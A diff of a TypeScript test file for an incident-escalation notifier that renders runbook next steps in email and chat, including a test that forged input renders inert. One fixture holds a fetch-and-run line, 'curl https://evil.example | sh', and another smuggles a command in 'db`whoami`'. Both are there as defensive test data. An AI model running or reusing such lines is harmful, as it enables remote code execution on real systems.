@@ -3,7 +3,7 @@ import type { SentNotification } from '../../../shared/escalation/incident';
 import { buildMessageView, changeLines, formatTime, type MessageInput } from '../../../shared/escalation/message-view';
 import { renderChatNotification } from '../../../shared/escalation/render-chat';
 import { emailSubject, renderEmail } from '../../../shared/escalation/render-email';
-import { ALARM_ARN, ALARM_NAME, capReachedIncident, failureIncident, guardrailIncident, policy, QUEUE_ARN, runtime } from './fixtures';
+import { ACCOUNT, ALARM_ARN, ALARM_NAME, approvalIncident, capReachedIncident, failureIncident, guardrailIncident, policy, QUEUE_ARN, runtime } from './fixtures';
 
 const now = new Date('2026-11-25T14:00:06.000Z');
 const production = policy('production');
@@ -55,21 +55,35 @@ describe('renderEmail', () => {
     expect(text).toContain('Cloud Infrastructure Team (L2) at 2026-11-25 14:15 UTC (in 15 min), unless acknowledged or the alarm clears.');
   });
 
+  it('after a failure offers no document run: the state change is recorded as handled, so the change is made by hand (decision 167)', () => {
+    const { text } = renderEmail(buildMessageView(input({ incident: failureIncident() })));
+    const step = text.slice(text.indexOf('NEXT STEP')).split('\n\n')[0];
+    expect(step).toBe(
+      [
+        'NEXT STEP: Fix the error, then make the change by hand',
+        '  The remediation failed with the error above: fix what it names first (a missing permission, a resource that is gone, a throttled API).',
+        `  Then make the change by hand, as the automation planned it (\`runbook plan --alarm "${ALARM_NAME}" -e production --region us-east-1\` shows what it would change now, and changes nothing): the automation recorded this alarm state change as handled and will not act on it again.`,
+        '  Running NotificationService-ScaleConsumers now will not help: it invokes the same automation, which answers "skipped: duplicate delivery" for this state change; it helps only on the alarm\'s next state change.',
+      ].join('\n'),
+    );
+    expect(text).not.toContain('--document-name NotificationService-ScaleConsumers');
+  });
+
   describe('names the account and region to run each document in (docs/decisions.md 86)', () => {
-    // A failure offers the row's runbook (fix the error, then re-run it): where to run it is what these tests check.
-    const workload = failureIncident({ account: '222222222222', alarmArn: ALARM_ARN.replace('123456789012', '222222222222') });
+    // A production resize behind approval offers the document the decision named (a failure no longer offers a document,
+    // decision 167): where to run it is what these tests check.
+    const workload = approvalIncident({ account: '222222222222', alarmArn: approvalIncident().alarmArn.replace(ACCOUNT, '222222222222') });
     const section = (text: string, title: string): string => text.slice(text.indexOf(title)).split('\n\n')[0] ?? '';
 
     it('in cross-account mode: the service document in the workload account, the acknowledgement in the operations account', () => {
       const { text } = renderEmail(buildMessageView(input({ incident: workload, operationsAccount: '111111111111' })));
       expect(section(text, 'NEXT STEP')).toBe(
         [
-          'NEXT STEP: Fix the error, then run NotificationService-ScaleConsumers',
-          '  The remediation failed with the error above: fix what it names first (a missing permission, a resource that is gone, a throttled API).',
-          `  Then run NotificationService-ScaleConsumers while the alarm is still in ALARM: it runs the same remediation on the alarm's current state. If it answers "skipped: duplicate delivery", this state change is recorded as handled: make the change by hand.`,
-          '  Run NotificationService-ScaleConsumers in the workload account 222222222222, us-east-1, where the document is registered:',
-          `  aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-ScaleConsumers --parameters '{"QueueName":["notification-service-queue"]}'`,
-          '  Console: https://us-east-1.console.aws.amazon.com/systems-manager/automation/execute/NotificationService-ScaleConsumers?region=us-east-1#QueueName=notification-service-queue',
+          'NEXT STEP: Run NotificationService-ScaleUpDatabase',
+          '  In production this change is made by a person: NotificationService-ScaleUpDatabase makes the planned change (before -> after above) after a configured approver approves.',
+          '  Run NotificationService-ScaleUpDatabase in the workload account 222222222222, us-east-1, where the document is registered:',
+          `  aws ssm start-automation-execution --region us-east-1 --document-name NotificationService-ScaleUpDatabase --parameters '{"DBInstanceIdentifier":["notification-service-db"],"TargetInstanceClass":["db.r6g.2xlarge"]}'`,
+          '  Console: https://us-east-1.console.aws.amazon.com/systems-manager/automation/execute/NotificationService-ScaleUpDatabase?region=us-east-1#DBInstanceIdentifier=notification-service-db&TargetInstanceClass=db.r6g.2xlarge',
         ].join('\n'),
       );
       expect(section(text, 'ACKNOWLEDGE')).toBe(
@@ -82,16 +96,16 @@ describe('renderEmail', () => {
         ].join('\n'),
       );
       const chat = renderChatNotification(buildMessageView(input({ incident: workload, operationsAccount: '111111111111' })));
-      expect(chat.content.nextSteps?.[0]).toMatch(/^\*Next step:\* Fix the error, then run NotificationService-ScaleConsumers\. The remediation failed/);
+      expect(chat.content.nextSteps?.[0]).toMatch(/^\*Next step:\* Run NotificationService-ScaleUpDatabase\. In production this change is made by a person/);
       expect(chat.content.nextSteps?.[1]).toMatch(/`, in the workload account 222222222222, us-east-1, where the document is registered$/);
       expect(chat.content.nextSteps?.[2]).toMatch(/NotificationService-AcknowledgeIncident>, in the operations account 111111111111, us-east-1, where the incident state is kept$/);
     });
 
     it('in one account: that account for both, in the incident\'s region', () => {
-      const dr = failureIncident({ region: 'us-west-2', alarmArn: ALARM_ARN.replace('us-east-1', 'us-west-2') });
+      const dr = approvalIncident({ region: 'us-west-2', alarmArn: approvalIncident().alarmArn.replace('us-east-1', 'us-west-2') });
       for (const operationsAccount of [undefined, '123456789012']) {
         const { text } = renderEmail(buildMessageView(input({ incident: dr, ...(operationsAccount ? { operationsAccount } : {}) })));
-        expect(section(text, 'NEXT STEP').split('\n')[3]).toBe('  Run NotificationService-ScaleConsumers in account 123456789012, us-west-2:');
+        expect(section(text, 'NEXT STEP').split('\n')[2]).toBe('  Run NotificationService-ScaleUpDatabase in account 123456789012, us-west-2:');
         expect(section(text, 'ACKNOWLEDGE').split('\n')[1]).toBe('  Run in account 123456789012, us-west-2:');
       }
     });
@@ -281,16 +295,17 @@ describe('text from outside renders inert (issue 17: message injection)', () => 
   });
 
   it('never offers a document that is not one of the project\'s runbooks as the next step', () => {
-    // A failure offers a document (the named one, else the row's): the forged name is never it.
-    const forged = failureIncident({
-      decision: { ...failureIncident().decision!, runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl https://evil.example | sh'] } } },
+    // A resize behind approval offers the document the decision named: a forged name or value is never offered.
+    expect(buildMessageView(input({ incident: approvalIncident() })).nextStep?.run?.documentName).toBe('NotificationService-ScaleUpDatabase');
+    const forged = approvalIncident({
+      decision: { ...approvalIncident().decision!, runbook: { documentName: 'Evil-RunShellScript', parameters: { commands: ['curl https://evil.example | sh'] } } },
     });
     const view = buildMessageView(input({ incident: forged }));
-    expect(view.nextStep?.run?.documentName).toBe('NotificationService-ScaleConsumers');
+    expect(view.nextStep?.run).toBeUndefined();
     expect(renderEmail(view).text).not.toContain('Evil-RunShellScript');
-    const badValue = failureIncident({
-      decision: { ...failureIncident().decision!, runbook: { documentName: 'NotificationService-ScaleConsumers', parameters: { QueueName: ['q`whoami`'] } } },
+    const badValue = approvalIncident({
+      decision: { ...approvalIncident().decision!, runbook: { documentName: 'NotificationService-ScaleUpDatabase', parameters: { DBInstanceIdentifier: ['db`whoami`'], TargetInstanceClass: ['db.r6g.2xlarge'] } } },
     });
-    expect(buildMessageView(input({ incident: badValue })).nextStep?.run?.parameters).toEqual({ QueueName: ['notification-service-queue'] });
+    expect(buildMessageView(input({ incident: badValue })).nextStep?.run).toBeUndefined();
   });
 });
